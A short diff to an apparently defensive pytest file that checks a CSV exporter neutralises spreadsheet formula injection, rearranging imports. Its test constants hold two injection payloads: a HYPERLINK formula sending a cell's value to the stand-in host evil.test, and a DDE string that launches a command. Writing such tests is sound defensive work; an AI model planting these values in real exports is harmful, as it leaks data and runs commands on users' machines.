@@ -10,9 +10,11 @@ import shutil
 from pathlib import Path
 
 import pytest
+from hardening_support import DEPARTMENTS, build, copy_project, write_data
+from hardening_support import DOCUMENT as D
+from hardening_support import replace_once as r
 
 from gazette.publish.csvfile import FORMULA_START, csv_text, neutralise
-from hardening_support import DEPARTMENTS, DOCUMENT as D, build, copy_project, replace_once as r, write_data
 
 TITLE = '=HYPERLINK("http://evil.test/?x="&A1,"点击")'
 CELL = "+cmd|' /C calc'!A0"
